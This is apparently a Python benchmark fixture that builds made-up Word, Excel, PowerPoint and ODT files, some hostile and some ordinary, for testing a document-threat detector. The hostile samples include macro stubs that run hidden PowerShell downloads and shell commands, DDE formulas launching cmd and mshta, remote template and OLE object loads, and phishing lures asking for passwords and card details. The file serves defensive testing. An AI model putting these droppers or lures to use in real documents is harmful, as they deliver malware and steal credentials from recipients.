"""Office files made up for measuring: the deceptions that come as Word, Excel or PowerPoint files, and ordinary ones.

The words of the made-up PDFs stand in Word files too; the rest is what only office files do.
"""

from __future__ import annotations

from collections.abc import Iterator

from benchmarks.made_documents import ORDINARY, SCAMS, qr_png
from benchmarks.office_writer import docx, odt, pptx, xlsx
from benchmarks.ole_writer import project, word

_STARTER = (
    'Private Sub Document_Open()\r\nSet s = CreateObject("WScript.Shell")\r\n'
    's.Run "powershell -w hidden -c (New-Object Net.WebClient).DownloadFile(u, p)", 0\r\nEnd Sub\r\n'
)
_FETCHER = (
    'Sub Auto_Open()\r\nSet x = CreateObject("MSXML2.XMLHTTP")\r\nx.Open "GET", Chr(104) & Chr(116) & t, False\r\n'
    'Set f = CreateObject("ADODB.Stream")\r\nShell("cmd.exe /c start " & p)\r\nEnd Sub\r\n'
)
_SUMS = (
    "Sub Totals()\r\nFor i = 2 To 40\r\nCells(i, 4).Value = Cells(i, 2).Value * Cells(i, 3).Value\r\nNext i\r\n"
    "End Sub\r\n"
)
_LURE = """
This document was created in an earlier version of Microsoft Office
To view it, click Enable Editing in the yellow bar above and then click Enable Content.
"""
_PAYROLL = """
Human Resources
Your payroll details could not be verified. Your salary will be withheld until you confirm your account.
Sign in with your work email and password within 24 hours:
[Confirm my details](http://hr-payroll.staff-verify.test/login)
"""
_TAX = """
Tax refund notification
You are eligible for a refund of 418.20 GBP. To receive it, confirm your card number and security code today.
[Claim your refund](http://hmrc-refund.claim-online.test/form)
"""
_FIGURES = """
Month  Kettles  Toasters  Total
January  212  180  392
February  198  175  373
March  240  201  441
Compiled by Lena Hoffmann, sales planning. Questions to lena.hoffmann@haldenpumps.example
"""
_TALK = """
Soil ecology in three pictures
Dr L. Duarte, Graz, September 2026
---
Methods
Forty plots were sampled in spring and in autumn; roots were washed and weighed.
[Data set](https://data.soilworkshop.example/plots)
---
Thank you
Questions are welcome after the coffee break.
"""
_LETTER = """
Harwick Town Council, Parks Department
Dear Mr Novak, thank you for your letter about the playground in Linden Street. The swings were repaired last week and
the fence will be painted in May. We are sorry that it took so long and hope your children enjoy it again.
Yours sincerely, Anna Berg
"""


def office_scams() -> Iterator[tuple[str, bytes]]:
    for name, text in SCAMS.items():
        yield f"{name}.docx", docx(text)
    yield "lure.docm", docx(_LURE, parts={"word/vbaProject.bin": project(_STARTER)})
    yield "lure.doc", word(_LURE, macros=_STARTER)
    yield (
        "order.xlsm",
        xlsx(
            "Purchase order 7718\nOpen the sheet to see the items.",
            parts={"xl/vbaProject.bin": project(_FETCHER)},
        ),
    )
    yield (
        "template.docx",
        docx("Contract draft", loads=[("attachedTemplate", "http://198.51.100.23/t/letter.dotm")]),
    )
    yield (
        "object.docx",
        docx(
            "Quotation 2026-118",
            loads=[("oleObject", "mhtml:http://docs-view.test/q.html!x-usc:http://docs-view.test/q.html")],
        ),
    )
    yield (
        "dde.docx",
        docx("Budget", codes=(r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k powershell -w hidden start x"',)),
    )
    yield "dde.xlsx", xlsx("Statement of account", formulas=("cmd|'/c mshta http://x.test/a'!A0",))
    yield "payroll.docx", docx(_PAYROLL)
    yield "tax.pptx", pptx(_TAX)
    yield "tax.odt", odt(_TAX)
    code = qr_png("http://microsoft-mfa.verify-login.test/a")
    yield (
        "code.docx",
        docx(
            "Microsoft 365\nYour password expires today. Scan the code with your phone and sign in.",
            parts={"word/media/image1.png": code},
        ),
    )


def office_ordinary() -> Iterator[tuple[str, bytes]]:
    for name, text in ORDINARY.items():
        yield f"{name}.docx", docx(text)
    yield "figures.xlsx", xlsx(_FIGURES, formulas=("SUM(B2:B4)", 'A2&" | "&B2'))
    yield "figures.xlsm", xlsx(_FIGURES, parts={"xl/vbaProject.bin": project(_SUMS)})
    yield "talk.pptx", pptx(_TALK)
    yield (
        "letter.docx",
        docx(_LETTER, loads=[("attachedTemplate", r"file:///\\fileserver\templates\letter.dotx")]),
    )
    yield "letter.doc", word(_LETTER)
    yield "letter.odt", odt(_LETTER)
    yield "serial-letter.docx", docx(_LETTER, codes=('MERGEFIELD "Name"', "PAGE", 'DATE \\@ "d MMMM yyyy"'))
    yield "logo.docx", docx(_LETTER, loads=[("image", "https://www.harwick.example/logo.png")])
    rows = "\\par ".join(_LETTER.strip().split("\n"))
    yield "letter.rtf", (r"{\rtf1\ansi{\fonttbl{\f0 Arial;}}\f0 " + rows + "}").encode("cp1252")
